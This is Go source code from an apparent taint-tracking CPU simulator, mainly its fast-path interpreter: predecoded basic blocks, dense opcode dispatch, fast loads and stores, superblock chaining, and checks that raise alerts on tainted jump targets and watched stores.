				sym, off := c.symbolFor(c.pc)
				c.stats.Alerts++
				return &WatchViolation{
					Watch: w, PC: c.pc, Addr: a, Symbol: sym, SymOff: off,
				}
			}
		}
	}
	return nil
}

// watchedStoreTaint is a fast-path guard used by execMem.
func (c *CPU) watchedStoreTaint(op isa.Opcode, addr uint32, vec taint.Vec) error {
	if len(c.watches) == 0 || !vec.Any() {
		return nil
	}
	width := op.MemWidth()
	if width == 0 {
		return nil
	}
	return c.checkWatches(addr, width, vec)
}
