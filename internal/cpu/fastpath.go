package cpu

import (
	"repro/internal/isa"
	"repro/internal/mem"
	"repro/internal/taint"
)

// maxBlockLen bounds one predecoded basic block, in instructions. Blocks
// end at the first control transfer or trap anyway; the cap only limits
// pathological straight-line runs and the backward scan in evictBlocksAt.
const maxBlockLen = 128

// decIns is one fully predecoded instruction of a basic block: the decoded
// form plus everything the dispatch loop would otherwise recompute per
// execution — the taint-datapath kind, the source registers whose taint
// decides the clean-operand short-circuit, and for ALU/compare ops the
// operand routing (aluMode/imm/dst). srcA/srcB are RegZero when unused,
// which is safe on both uses: $zero's taint is always None and its regHome
// is never live, and the load-use hazard check in StepBlock's retire
// accounting compares them against a destination that is never $zero.
type decIns struct {
	in      isa.Instruction
	kind    isa.Kind
	srcA    isa.Register
	srcB    isa.Register
	dst     isa.Register // ALU/compare/load destination
	aluMode uint8        // operand routing for execALUClean
	fop     uint8        // dense fast-op code (fopXXX) for ALU/shift/mem dispatch
	isLoad  bool
	ctl     bool   // control transfer: the only ops whose nextPC needs the pc checks
	static  uint8  // FactOperandsClean/FactAddrClean bits from SetStaticFacts
	imm     uint32 // precomputed immediate operand (aluImm/aluLUI/mem offset)
}

// ALU operand-routing modes (mirroring execALU's selection).
const (
	aluRR  = iota // a = regs[srcA], b = regs[srcB]
	aluImm        // a = regs[srcA], b = imm (sign- or zero-extended at decode)
	aluLUI        // result is imm, fully precomputed
)

// Dense fast-op codes: the sparse opcode space collapsed to consecutive
// values so the clean-ALU and flat-memory dispatch switches compile to jump
// tables instead of the comparison chains aluValue/execMem pay per step.
const (
	fopNone = iota
	fopADD
	fopSUB
	fopAND
	fopOR
	fopXOR
	fopNOR
	fopMUL
	fopDIV
	fopDIVU
	fopREM
	fopREMU
	fopSLT
	fopSLTU
	fopSLL
	fopSRL
	fopSRA
	fopLB
	fopLBU
	fopLH
	fopLHU
	fopLW
	fopSB
	fopSH
	fopSW
)

// aluFop maps an ALU/compare opcode to its dense fast-op code; immediate and
// register forms share one code because the operand routing (aluMode) already
// distinguishes them.
func aluFop(op isa.Opcode) uint8 {
	switch op {
	case isa.OpADD, isa.OpADDU, isa.OpADDI, isa.OpADDIU:
		return fopADD
	case isa.OpSUB, isa.OpSUBU:
		return fopSUB
	case isa.OpAND, isa.OpANDI:
		return fopAND
	case isa.OpOR, isa.OpORI:
		return fopOR
	case isa.OpXOR, isa.OpXORI:
		return fopXOR
	case isa.OpNOR:
		return fopNOR
	case isa.OpMUL:
		return fopMUL
	case isa.OpDIV:
		return fopDIV
	case isa.OpDIVU:
		return fopDIVU
	case isa.OpREM:
		return fopREM
	case isa.OpREMU:
		return fopREMU
	case isa.OpSLT, isa.OpSLTI:
		return fopSLT
	case isa.OpSLTU, isa.OpSLTIU:
		return fopSLTU
	}
	return fopNone
}

// memFop maps a load/store opcode to its dense fast-op code.
func memFop(op isa.Opcode) uint8 {
	switch op {
	case isa.OpLB:
		return fopLB
	case isa.OpLBU:
		return fopLBU
	case isa.OpLH:
		return fopLH
	case isa.OpLHU:
		return fopLHU
	case isa.OpLW:
		return fopLW
	case isa.OpSB:
		return fopSB
	case isa.OpSH:
		return fopSH
	case isa.OpSW:
		return fopSW
	}
	return fopNone
}

// decBlock is one predecoded basic block, keyed by the word index of its
// first instruction. Stores into the block's text range (invalidateText)
// clear valid; the next dispatch rebuilds from the current memory bytes.
// A block with shared set is referenced by forked CPUs (ShareText) and is
// immutable: a CPU that must drop one forgets its own pointer to it
// instead of clearing valid, leaving siblings undisturbed.
type decBlock struct {
	valid  bool
	shared bool
	ins    []decIns
}

// taintSources returns the registers whose taint feeds the instruction's
// datapath (RegZero for unused slots). The register set equals the one
// usesReg consults, so the same pair drives both the clean-operand
// short-circuit and the fast load-use hazard check.
func taintSources(in isa.Instruction) (a, b isa.Register) {
	switch in.Op.Kind() {
	case isa.KindALU, isa.KindCompare:
		switch in.Op {
		case isa.OpLUI:
			return isa.RegZero, isa.RegZero
		case isa.OpADDI, isa.OpADDIU, isa.OpSLTI, isa.OpSLTIU,
			isa.OpANDI, isa.OpORI, isa.OpXORI:
			return in.Rs, isa.RegZero
		}
		return in.Rs, in.Rt
	case isa.KindShift:
		if in.Op == isa.OpSLL || in.Op == isa.OpSRL || in.Op == isa.OpSRA {
			return in.Rt, isa.RegZero
		}
		return in.Rt, in.Rs
	case isa.KindLoad, isa.KindJumpReg:
		return in.Rs, isa.RegZero
	case isa.KindStore:
		return in.Rs, in.Rt
	case isa.KindBranch:
		if in.Op == isa.OpBEQ || in.Op == isa.OpBNE {
			return in.Rs, in.Rt
		}
		return in.Rs, isa.RegZero
	}
	return isa.RegZero, isa.RegZero
}

// flushBlocks drops every predecoded block. Called when a probe is added:
// blocks must never span a probed pc except at their entry, where StepBlock
// runs the probes.
func (c *CPU) flushBlocks() {
	if c.decodeShared {
		c.privatizeDecode()
	}
	for i := range c.blocks {
		if b := c.blocks[i]; b != nil {
			if !b.shared {
				b.valid = false
			}
			c.blocks[i] = nil
		}
	}
}

// evictBlocksAt invalidates every block containing the text word at idx.
// Blocks are at most maxBlockLen long, so only entries in the preceding
// window can span idx — this is what keeps a store that overlaps a block's
// interior or tail (not just its entry word) from leaving stale code live.
func (c *CPU) evictBlocksAt(idx uint32) {
	if c.blocks == nil {
		return
	}
	if c.decodeShared {
		c.privatizeDecode()
	}
	lo := uint32(0)
	if idx >= maxBlockLen-1 {
		lo = idx - (maxBlockLen - 1)
	}
	for j := lo; j <= idx && j < uint32(len(c.blocks)); j++ {
		if b := c.blocks[j]; b != nil && b.valid && j+uint32(len(b.ins)) > idx {
			if b.shared {
				c.blocks[j] = nil
			} else {
				b.valid = false
			}
		}
	}
}

// buildBlock predecodes the straight-line run starting at text word idx,
// stopping at the first control transfer or trap, a null or undecodable
// word, the end of the text segment, a probed pc (which must stay a block
// entry), or maxBlockLen. Returns nil when not even the first word decodes
// — the caller falls back to the reference step, which raises the same
// fault the reference interpreter would.
func (c *CPU) buildBlock(idx uint32) *decBlock {
	// A new block writes both caches (its slot, plus the per-word decode
	// fill below), so a fork still aliasing its snapshot's slices must
	// privatize them first.
	if c.decodeShared {
		c.privatizeDecode()
	}
	base := c.textBase + idx*4
	words := make([]uint32, 0, 16)
	for i := uint32(0); i < maxBlockLen && idx+i < uint32(len(c.decoded)); i++ {
		pc := base + i*4
		if i > 0 && c.probes != nil {
			if _, ok := c.probes[pc]; ok {
				break
			}
		}
		w, _, err := c.bus.LoadWord(pc)
		if err != nil {
			break
		}
		// Decode eagerly only to find the run's end, so the fetch loop
		// stops at the terminator instead of pulling maxBlockLen words
		// through the bus; PredecodeRun below produces the actual run.
		in, derr := isa.Decode(w)
		if w == 0 || derr != nil {
			break
		}
		words = append(words, w)
		if in.Op.EndsBlock() {
			break
		}
	}
	run := isa.PredecodeRun(words, maxBlockLen)
	if len(run) == 0 {
		return nil
	}
	b := &decBlock{valid: true, ins: make([]decIns, len(run))}
	// Text normally sits far above the null page, making the per-step
	// nextPC checks provably redundant for straight-line flow; when an image
	// places text adjacent to the guard page (or at the top of the address
	// space), force the checks on every instruction instead.
	forceTail := base < nullPage || base > ^uint32(0)-uint32(maxBlockLen)*4
	for i, in := range run {
		srcA, srcB := taintSources(in)
		d := decIns{
			in:     in,
			kind:   in.Op.Kind(),
			srcA:   srcA,
			srcB:   srcB,
			isLoad: in.Op.IsLoad(),
		}
		switch d.kind {
		case isa.KindALU, isa.KindCompare:
			d.fop = aluFop(in.Op)
			switch in.Op {
			case isa.OpLUI:
				d.aluMode, d.imm, d.dst = aluLUI, in.UImm()<<16, in.Rt
			case isa.OpADDI, isa.OpADDIU, isa.OpSLTI:
				d.aluMode, d.imm, d.dst = aluImm, uint32(in.Imm), in.Rt
			case isa.OpSLTIU, isa.OpANDI, isa.OpORI, isa.OpXORI:
				d.aluMode, d.imm, d.dst = aluImm, in.UImm(), in.Rt
			default:
				d.aluMode, d.dst = aluRR, in.Rd
			}
		case isa.KindShift:
			d.dst = in.Rd
			switch in.Op {
			case isa.OpSLL:
				d.aluMode, d.imm, d.fop = aluImm, uint32(in.Shamt), fopSLL
			case isa.OpSRL:
				d.aluMode, d.imm, d.fop = aluImm, uint32(in.Shamt), fopSRL
			case isa.OpSRA:
				d.aluMode, d.imm, d.fop = aluImm, uint32(in.Shamt), fopSRA
			case isa.OpSLLV:
				d.aluMode, d.fop = aluRR, fopSLL
			case isa.OpSRLV:
				d.aluMode, d.fop = aluRR, fopSRL
			case isa.OpSRAV:
				d.aluMode, d.fop = aluRR, fopSRA
			}
		case isa.KindLoad, isa.KindStore:
			d.fop = memFop(in.Op)
			d.imm = uint32(in.Imm)
			d.dst = in.Rt
		case isa.KindBranch, isa.KindJump, isa.KindJumpReg:
			d.ctl = true
		}
		if forceTail {
			d.ctl = true
		}
		if widx := idx + uint32(i); widx < uint32(len(c.staticFacts)) {
			d.static = c.staticFacts[widx]
		}
		b.ins[i] = d
		// Share the work with the per-word cache so the reference fallback
		// (probes, tracing) needn't refetch.
		if widx := idx + uint32(i); widx < uint32(len(c.decoded)) {
			c.decoded[widx] = decodedSlot{in: in, valid: true}
		}
	}
	return b
}

// execALUClean is execALU/execShift for the case where every source operand
// is untainted: the Table 1 rules then yield an untainted result and no
// observable operand-untaint side effects (for compares the caller
// additionally checks homeClean on both sources), so the Propagate call is
// skipped entirely. Operand routing and the dense op code come precomputed
// from the block; the consecutive fop cases compile to a jump table where
// aluValue's sparse opcode switch is a comparison chain. Shifts run here
// too (a is the datum, b the amount).
func (c *CPU) execALUClean(d *decIns) {
	a, b := c.regs[d.srcA], c.regs[d.srcB]
	if d.aluMode != aluRR {
		if d.aluMode == aluLUI { // the constant was fully evaluated at decode
			c.SetReg(d.dst, d.imm, taint.None)
			return
		}
		b = d.imm
	}
	var v uint32
	switch d.fop {
	case fopADD:
		v = a + b
	case fopSUB:
		v = a - b
	case fopAND:
		v = a & b
	case fopOR:
		v = a | b
	case fopXOR:
		v = a ^ b
	case fopNOR:
		v = ^(a | b)
	case fopMUL:
		v = uint32(int32(a) * int32(b))
	case fopDIV:
		switch {
		case b == 0:
			v = 0
		case int32(a) == -1<<31 && int32(b) == -1:
			v = 0x80000000
		default:
			v = uint32(int32(a) / int32(b))
		}
	case fopDIVU:
		if b != 0 {
			v = a / b
		}
	case fopREM:
		if b != 0 && !(int32(a) == -1<<31 && int32(b) == -1) {
			v = uint32(int32(a) % int32(b))
		}
	case fopREMU:
		if b != 0 {
			v = a % b
		}
	case fopSLT:
		if int32(a) < int32(b) {
			v = 1
		}
	case fopSLTU:
		if a < b {
			v = 1
		}
	case fopSLL:
		v = a << (b & 31)
	case fopSRL:
		v = a >> (b & 31)
	case fopSRA:
		v = uint32(int32(a) >> (b & 31))
	}
	c.SetReg(d.dst, v, taint.None)
}

// homeClean reports whether untainting r's memory home would be
// unobservable: no live home link, or — on flat memory, where the probe
// has no timing side effects — a home span with no tainted bytes. Through
// a cache port a live home must be treated as dirty.
func (c *CPU) homeClean(r isa.Register) bool {
	if c.homesMask&(1<<r) == 0 {
		return true
	}
	if c.flatMem == nil {
		return false
	}
	h := c.regHomes[r]
	return !c.flatMem.SpanTainted(h.addr, int(h.width))
}

// execMemFast is execMem for the common fast-path case: an untainted address
// register on flat memory. No dereference detector can fire on an untainted
// address vector (CheckMemAccess is vacuous there under every policy), the
// bus devirtualizes to *mem.Memory, and the opcode dispatch, offset, and
// destination come precomputed from the block. pc is the instruction's own
// address, written back only on the paths that can observe it (faults and
// watch alerts); the caller owns c.pc otherwise. instrs is the exact
// retired count including the caller's batched locals, consumed only by
// the provenance hooks (their events timestamp against it).
func (c *CPU) execMemFast(d *decIns, pc uint32, instrs uint64) error {
	addr := c.regs[d.srcA] + d.imm
	if addr < nullPage {
		c.pc = pc
		return c.fault("segmentation fault: null-page access")
	}
	m := c.flatMem
	switch d.fop {
	case fopLW:
		if addr&3 != 0 {
			c.pc = pc
			return c.fault((&mem.AlignmentError{Addr: addr, Width: 4}).Error())
		}
		w, wv := m.WordAt(addr)
		c.SetReg(d.dst, w, wv)
		if wv != taint.None && c.prov != nil {
			c.provLoad(d.dst, addr, pc, instrs)
		}
		c.setHome(d.dst, addr, 4)
		c.stats.Loads++
	case fopSW:
		vec := c.regTaint[d.srcB]
		if vec != taint.None && len(c.watches) != 0 {
			c.pc = pc
			if err := c.watchedStoreTaint(isa.OpSW, addr, vec); err != nil {
				return err
			}
		}
		if addr&3 != 0 {
			c.pc = pc
			return c.fault((&mem.AlignmentError{Addr: addr, Width: 4}).Error())
		}
		m.PutWord(addr, c.regs[d.srcB], vec)
		if vec != taint.None && c.prov != nil {
			c.provStore(addr, 4, d.srcB)
		}
		if c.homesMask != 0 {
			c.invalidateHomes(addr, 4)
		}
		if addr < c.textEnd {
			c.invalidateText(addr, 4)
		}
		c.stats.Stores++
	case fopLB, fopLBU:
		b, tt := m.LoadByte(addr)
		var v uint32
		var vec taint.Vec
		if d.fop == fopLB {
			v = uint32(int32(int8(b)))
			if tt {
				vec = taint.Word // sign bytes derive from the tainted byte
			}
		} else {
			v = uint32(b)
			if tt {
				vec = taint.ForWidth(1)
			}
		}
		c.SetReg(d.dst, v, vec)
		if vec != taint.None && c.prov != nil {
			c.provLoad(d.dst, addr, pc, instrs)
		}
		c.setHome(d.dst, addr, 1)
		c.stats.Loads++
	case fopLH, fopLHU:
		if addr&1 != 0 {
			c.pc = pc
			return c.fault((&mem.AlignmentError{Addr: addr, Width: 2}).Error())
		}
		h, hv := m.HalfAt(addr)
		var v uint32
		vec := hv
		if d.fop == fopLH {
			v = uint32(int32(int16(h)))
			if hv.Byte(1) {
				vec = taint.Word // sign bytes derive from the top loaded byte
			}
		} else {
			v = uint32(h)
		}
		c.SetReg(d.dst, v, vec)
		if vec != taint.None && c.prov != nil {
			c.provLoad(d.dst, addr, pc, instrs)
		}
		c.setHome(d.dst, addr, 2)
		c.stats.Loads++
	case fopSB:
		vec := c.regTaint[d.srcB]
		if vec != taint.None && len(c.watches) != 0 {
			c.pc = pc
			if err := c.watchedStoreTaint(isa.OpSB, addr, vec); err != nil {
				return err
			}
		}
		m.StoreByte(addr, byte(c.regs[d.srcB]), vec.Byte(0))
		if vec.Byte(0) && c.prov != nil {
			c.provStore(addr, 1, d.srcB)
		}
		if c.homesMask != 0 {
			c.invalidateHomes(addr, 1)
		}
		if addr < c.textEnd {
			c.invalidateText(addr, 1)
		}
		c.stats.Stores++
	case fopSH:
		vec := c.regTaint[d.srcB]
		if vec != taint.None && len(c.watches) != 0 {
			c.pc = pc
			if err := c.watchedStoreTaint(isa.OpSH, addr, vec); err != nil {
				return err
			}
		}
		if addr&1 != 0 {
			c.pc = pc
			return c.fault((&mem.AlignmentError{Addr: addr, Width: 2}).Error())
		}
		m.PutHalf(addr, uint16(c.regs[d.srcB]), vec)
		if vec != taint.None && c.prov != nil {
			c.provStore(addr, 2, d.srcB)
		}
		if c.homesMask != 0 {
			c.invalidateHomes(addr, 2)
		}
		if addr < c.textEnd {
			c.invalidateText(addr, 2)
		}
		c.stats.Stores++
	}
	return nil
}

// StepBlock executes one predecoded basic block — or the prefix allowed by
// the remaining instruction budget when max > 0 — and returns exactly what
// the equivalent sequence of Step calls would: the same alerts at the same
// pcs and retired-instruction counts, the same faults, the same register,
// taint, memory, and pipeline state (differential_test.go holds it to
// that). Unlike Step it does not emit trace output; RunFast routes traced
// execution through Step.
//
// Host callbacks can only run at block boundaries — probes fire at block
// entry (buildBlock never extends a block past a probed pc) and syscalls
// terminate a block — so a callback that registers probes or rewrites
// state is observed before the next instruction executes, as with Step.
func (c *CPU) StepBlock(max uint64) error {
	if c.probes != nil {
		pc0 := c.pc
		for _, fn := range c.probes[pc0] {
			fn(c)
		}
		if c.pc != pc0 || c.halted {
			// The probe redirected or halted the machine; execute a single
			// instruction without re-running probes, as Step would.
			return c.stepOne()
		}
	}
	if c.blocks == nil || c.pc&3 != 0 {
		return c.stepOne()
	}
	// c.pc is written lazily: only before operations whose alert, fault,
	// or host-callback paths can observe it (memory ops, jump-register,
	// system traps) and when control leaves the chain. Straight-line work
	// tracks the pc in a local. The retired-instruction counters and the
	// pipeline's per-retire accounting (base cycle, load-use hazard state)
	// batch the same way: they accumulate in locals and flush into
	// c.stats / c.pipe before any path on which they are observable
	// (alerts, host callbacks, every return).
	//
	// Consecutive blocks chain inside this one call — after a block falls
	// through, branches, or jumps, the next block dispatches immediately
	// with the batched locals still live, so the dispatch and flush costs
	// amortize over whole runs of blocks. The chain breaks (and the locals
	// flush) at every host-visible boundary: a halt, a probe set appearing
	// (a probed pc must get its callbacks on the next dispatch), the
	// instruction budget, any fault or alert, or a pc the block cache
	// cannot serve.
	pc := c.pc
	var done, cleanN, staticN, cyc, stalls uint64
	prevDst := c.pipe.loadDst
	// sbSkip suppresses superblock re-entry at one index after a deopt
	// that retired nothing: the block path must execute the deopting
	// instruction before the trace is attempted again, or a standing
	// guard failure at the trace's first op would livelock the chain.
	sbSkip := ^uint32(0)
chain:
	for {
		idx := (pc - c.textBase) >> 2
		if idx >= uint32(len(c.blocks)) {
			break // fall back to the reference step for this pc
		}
		b := c.blocks[idx]
		if b == nil || !b.valid {
			if b = c.buildBlock(idx); b == nil {
				break
			}
			c.blocks[idx] = b
			c.stats.BlockMisses++
		} else {
			c.stats.BlockHits++
		}
		n := len(b.ins)
		if max > 0 {
			executed := c.stats.Instructions + done
			if executed >= max {
				c.pc = pc
				c.flushRetired(done, cleanN, staticN)
				c.flushPipe(cyc, stalls, prevDst)
				return &StepBudgetError{PC: pc, Steps: executed}
			}
			if rem := max - executed; uint64(n) > rem {
				n = int(rem)
			}
		}
		// Superblock tier: on the conditions under which StepBlock itself
		// runs its clean inlined paths (flat memory, no probes, no
		// per-opcode profiling), count this dispatch toward the entry's
		// heat and, once compiled, run the fused trace with the batched
		// locals flushed — the superblock writes c.stats and c.pipe
		// directly at its exits.
		if !c.sbOff && c.probes == nil && c.profile == nil && c.flatMem != nil {
			if len(c.sblocks) != len(c.blocks) {
				c.sblocks = make([]*superblock, len(c.blocks))
				c.sbHeat = make([]uint16, len(c.blocks))
			}
			if sb := c.sblocks[idx]; sb == nil {
				if c.sbHeat[idx] >= sbHotThreshold {
					c.sblocks[idx] = c.buildSuperblock(idx)
				} else {
					c.sbHeat[idx]++
				}
			} else if sb != sbUnfusable && idx == sbSkip {
				sbSkip = ^uint32(0) // consumed: the block path takes this one dispatch
			} else if sb != sbUnfusable {
				switch {
				case !sb.live(c):
					// A constituent block was rebuilt or invalidated
					// (self-modifying store, probe flush, fact drop);
					// recompile only after the entry re-heats. Counted as
					// a deopt under the cause that killed the trace.
					c.stats.SuperblockDeopts++
					switch c.sbInval {
					case sbInvalProbe:
						c.stats.SbDeoptProbe++
					case sbInvalInject:
						c.stats.SbDeoptInjectAt++
					default:
						c.stats.SbDeoptSelfModify++
					}
					c.sblocks[idx] = nil
					c.sbHeat[idx] = 0
				case (max == 0 || max-(c.stats.Instructions+done) >= uint64(len(sb.ops))) &&
					c.sbEntryClean(sb):
					c.pc = pc
					c.flushRetired(done, cleanN, staticN)
					c.flushPipe(cyc, stalls, prevDst)
					done, cleanN, staticN, cyc, stalls = 0, 0, 0, 0, 0
					c.stats.SuperblockRuns++
					npc, progressed := c.runSuperblock(sb, max)
					pc = npc
					prevDst = c.pipe.loadDst
					if progressed {
						sbSkip = ^uint32(0)
					} else {
						sbSkip = idx
						if sb.badEntries++; sb.badEntries > sbMaxBadEntries {
							c.sblocks[idx] = sbUnfusable
						}
					}
					continue chain
				default:
					// Entry guard failed (tainted live-in register) or
					// the budget cannot fit one iteration. Only the former
					// is a specialization failure worth a deopt reason.
					if max == 0 || max-(c.stats.Instructions+done) >= uint64(len(sb.ops)) {
						c.stats.SuperblockDeopts++
						c.stats.SbDeoptTaintedEntry++
					}
					if sb.badEntries++; sb.badEntries > sbMaxBadEntries {
						c.sblocks[idx] = sbUnfusable
					}
				}
			}
		}
		ins := b.ins[:n]
		for i := range ins {
			d := &ins[i]
			nextPC := pc + 4
			clean := false
			switch d.kind {
			case isa.KindALU:
				// A static FactOperandsClean proof stands in for the dynamic
				// operand-taint read (the differential harness cross-checks it).
				if sp := d.static & FactOperandsClean; sp != 0 ||
					c.regTaint[d.srcA]|c.regTaint[d.srcB] == taint.None {
					// The add family (address arithmetic, loop counters)
					// dominates; run it without the execALUClean call.
					if d.fop == fopADD {
						b2 := c.regs[d.srcB]
						if d.aluMode != aluRR {
							b2 = d.imm
						}
						c.SetReg(d.dst, c.regs[d.srcA]+b2, taint.None)
					} else {
						c.execALUClean(d)
					}
					clean = true
					staticN += uint64(sp) // FactOperandsClean is bit 0
				} else {
					if c.prov != nil {
						// Provenance hooks read c.pc (birth pc) and exact
						// retired counts (event timestamps); sync the lazy
						// state first. Only tainted-operand work pays this.
						c.pc = pc
						c.flushRetired(done, cleanN, staticN)
						c.flushPipe(cyc, stalls, prevDst)
						done, cleanN, staticN, cyc, stalls = 0, 0, 0, 0, 0
					}
					c.execALU(d.in)
				}
			case isa.KindCompare:
				// Compares untaint their source registers and write the
				// untaint through to live memory homes; short-circuit only
				// when that write-through would be unobservable.
				if c.regTaint[d.srcA]|c.regTaint[d.srcB] == taint.None &&
					c.homeClean(d.srcA) && c.homeClean(d.srcB) {
					c.execALUClean(d)
					clean = true
				} else {
					if c.prov != nil {
						// Compares untaint by default, but ablation
						// propagators can produce tainted results here too.
						c.pc = pc
						c.flushRetired(done, cleanN, staticN)
						c.flushPipe(cyc, stalls, prevDst)
						done, cleanN, staticN, cyc, stalls = 0, 0, 0, 0, 0
					}
					c.execALU(d.in)
				}
			case isa.KindShift:
				if sp := d.static & FactOperandsClean; sp != 0 ||
					c.regTaint[d.srcA]|c.regTaint[d.srcB] == taint.None {
					c.execALUClean(d)
					clean = true
					staticN += uint64(sp) // FactOperandsClean is bit 0
				} else {
					if c.prov != nil {
						c.pc = pc
						c.flushRetired(done, cleanN, staticN)
						c.flushPipe(cyc, stalls, prevDst)
						done, cleanN, staticN, cyc, stalls = 0, 0, 0, 0, 0
					}
					c.execShift(d.in)
				}
			case isa.KindLoad, isa.KindStore:
				// FactAddrClean proves the address register untainted, so the
				// pointer-taintedness probe is vacuous without reading the
				// dynamic taint state.
				spMem := d.static & FactAddrClean
				if c.flatMem != nil && d.fop != fopNone &&
					(spMem != 0 || c.regTaint[d.srcA] == taint.None) {
					staticN += uint64(spMem) >> 1 // FactAddrClean is bit 1
					// No detector or cache penalty applies; skip the bus
					// interface and the policy probe entirely. Word accesses
					// to clean in-bounds aligned addresses dominate, so they
					// additionally skip the execMemFast call; every other
					// case (other widths, fault paths, tainted store values
					// that may hit a watch) takes it.
					if addr := c.regs[d.srcA] + d.imm; d.fop == fopLW &&
						addr >= nullPage && addr&3 == 0 {
						w, wv := c.flatMem.WordAt(addr)
						c.SetReg(d.dst, w, wv)
						if wv != taint.None && c.prov != nil {
							// A clean-address load of a tainted word is a
							// taint birth; the guard keeps the dominant
							// clean-load case branch-predictable and free.
							c.provLoad(d.dst, addr, pc, c.stats.Instructions+done)
						}
						c.setHome(d.dst, addr, 4)
						c.stats.Loads++
						prevDst = d.dst
					} else if d.fop == fopSW && addr >= nullPage && addr&3 == 0 &&
						c.regTaint[d.srcB] == taint.None {
						c.flatMem.PutWord(addr, c.regs[d.srcB], taint.None)
						if c.homesMask != 0 {
							c.invalidateHomes(addr, 4)
						}
						if addr < c.textEnd {
							c.invalidateText(addr, 4)
						}
						c.stats.Stores++
						prevDst = isa.RegZero
					} else if err := c.execMemFast(d, pc, c.stats.Instructions+done); err != nil {
						c.flushRetired(done, cleanN, staticN)
						c.flushPipe(cyc, stalls, prevDst)
						return err
					} else if d.isLoad {
						// The pipe.Load / pipe.Store effect, tracked locally.
						prevDst = d.dst
					} else {
						prevDst = isa.RegZero
					}
				} else {
					c.pc = pc
					c.flushRetired(done, cleanN, staticN)
					c.flushPipe(cyc, stalls, prevDst)
					done, cleanN, staticN, cyc, stalls = 0, 0, 0, 0, 0
					if err := c.execMem(d.in); err != nil {
						return err
					}
					if c.penalties != nil {
						c.pipe.MemoryPenalty(c.penalties.DrainPenalty())
					}
					prevDst = c.pipe.loadDst
				}
			case isa.KindBranch:
				// The branch-untaint rule is skippable on the same terms as
				// the compare rule; the condition itself is taint-free.
				var taken bool
				if !c.prop.BranchUntaint() ||
					(c.regTaint[d.srcA]|c.regTaint[d.srcB] == taint.None &&
						c.homeClean(d.srcA) && c.homeClean(d.srcB)) {
					taken = branchTaken(d.in.Op, c.regs[d.in.Rs], c.regs[d.in.Rt])
					c.stats.Branches++
					clean = true
				} else {
					taken = c.execBranch(d.in)
				}
				if taken {
					nextPC = isa.BranchTarget(pc, d.in)
				}
				if c.cov != nil {
					c.cov.hit(pc, nextPC)
				}
				c.pipe.Branch(taken)
			case isa.KindJump:
				if d.in.Op == isa.OpJAL {
					c.SetReg(isa.RegRA, pc+4, taint.None)
				}
				nextPC = isa.JumpTarget(pc, d.in)
				if c.cov != nil {
					c.cov.hit(pc, nextPC)
				}
				c.pipe.Jump()
			case isa.KindJumpReg:
				// FactAddrClean on a jr proves the target register untainted:
				// the control-hijack detector cannot fire, so skip it.
				if d.static&FactAddrClean != 0 {
					staticN++
				} else if tv := c.regTaint[d.in.Rs]; tv != taint.None && c.events != nil {
					// Sync the lazy state so the event's retired count is
					// exact, then re-run the detector on the reference path
					// (tainted jr is a once-per-run event, usually an alert).
					c.pc = pc
					c.flushRetired(done, cleanN, staticN)
					c.flushPipe(cyc, stalls, prevDst)
					done, cleanN, staticN, cyc, stalls = 0, 0, 0, 0, 0
					c.events.Emit(Event{
						Kind:   EvDerefCheck,
						Instrs: c.stats.Instructions,
						PC:     pc,
						Reg:    d.in.Rs,
						Value:  c.regs[d.in.Rs],
						Taint:  tv,
						Label:  c.RegProvLabel(d.in.Rs),
					})
					if kind, bad := c.policy.CheckJumpReg(tv); bad {
						c.pipe.Retire(d.in)
						c.stats.Instructions++
						c.stats.TaintedSteps++
						if c.profile != nil {
							c.profile[d.in.Op]++
						}
						return c.alert(kind, StageIDEX, d.in, d.in.Rs)
					}
				} else if kind, bad := c.policy.CheckJumpReg(c.regTaint[d.in.Rs]); bad {
					c.pc = pc
					c.flushPipe(cyc, stalls, prevDst)
					c.pipe.Retire(d.in)
					c.flushRetired(done, cleanN, staticN)
					c.stats.Instructions++
					c.stats.TaintedSteps++
					if c.profile != nil {
						c.profile[d.in.Op]++
					}
					return c.alert(kind, StageIDEX, d.in, d.in.Rs)
				}
				target := c.regs[d.in.Rs]
				if d.in.Op == isa.OpJALR {
					c.SetReg(d.in.Rd, pc+4, taint.None)
				}
				nextPC = target
				if c.cov != nil {
					c.cov.hit(pc, nextPC)
				}
				c.pipe.Jump()
			case isa.KindSystem:
				c.pc = pc
				c.flushRetired(done, cleanN, staticN)
				c.flushPipe(cyc, stalls, prevDst)
				done, cleanN, staticN, cyc, stalls = 0, 0, 0, 0, 0
				switch d.in.Op {
				case isa.OpSYSCALL:
					if c.handler == nil {
						return c.fault("syscall with no handler")
					}
					c.stats.Syscalls++
					if c.events != nil {
						c.emitSyscall()
					}
					if err := c.handler.Syscall(c); err != nil {
						return err
					}
				case isa.OpBREAK:
					return c.fault("break instruction")
				case isa.OpNOP:
					clean = true // the taint datapath is inert
				}
				// Resync in case the host callback observed or touched the pipe.
				prevDst = c.pipe.loadDst
			}
			// The retire step on locals — Pipeline.Retire's base cycle, load-use
			// hazard charge, and next-slot load flag, without the struct traffic.
			cyc++
			if prevDst != isa.RegZero && (d.srcA == prevDst || d.srcB == prevDst) {
				cyc++
				stalls++
			}
			if !d.isLoad {
				prevDst = isa.RegZero
			}
			done++
			if clean {
				cleanN++
			}
			if c.profile != nil {
				c.profile[d.in.Op]++
			}
			if d.ctl {
				// Only a control transfer (or a block pinned near the address-
				// space edges by buildBlock) can produce a misaligned or
				// null-page nextPC; straight-line flow stays inside text.
				if nextPC&3 != 0 {
					c.pc = nextPC
					c.flushRetired(done, cleanN, staticN)
					c.flushPipe(cyc, stalls, prevDst)
					return c.fault("misaligned pc")
				}
				if nextPC < nullPage {
					c.pc = nextPC
					c.flushRetired(done, cleanN, staticN)
					c.flushPipe(cyc, stalls, prevDst)
					return c.fault("segmentation fault: jump into the null page")
				}
			}
			if d.kind == isa.KindStore && (!b.valid || c.blocks[idx] != b) {
				// The store rewrote this block's own text (a shared block is
				// evicted by nilling the slot rather than clearing valid);
				// re-dispatch so the fresh bytes are decoded.
				pc = nextPC
				continue chain
			}
			pc = nextPC
		}
		if c.halted || c.probes != nil {
			c.pc = pc
			c.flushRetired(done, cleanN, staticN)
			c.flushPipe(cyc, stalls, prevDst)
			return nil
		}
	}
	c.pc = pc
	c.flushRetired(done, cleanN, staticN)
	c.flushPipe(cyc, stalls, prevDst)
	return c.stepOne()
}

// flushRetired credits done batched block-retirements into the per-step
// counters: cleanN took a clean-operand short-circuit, staticN of those
// on the strength of a static fact rather than a dynamic taint read.
func (c *CPU) flushRetired(done, cleanN, staticN uint64) {
	c.stats.Instructions += done
	c.stats.CleanSkips += cleanN
	c.stats.StaticCleanSkips += staticN
	c.stats.TaintedSteps += done - cleanN
}

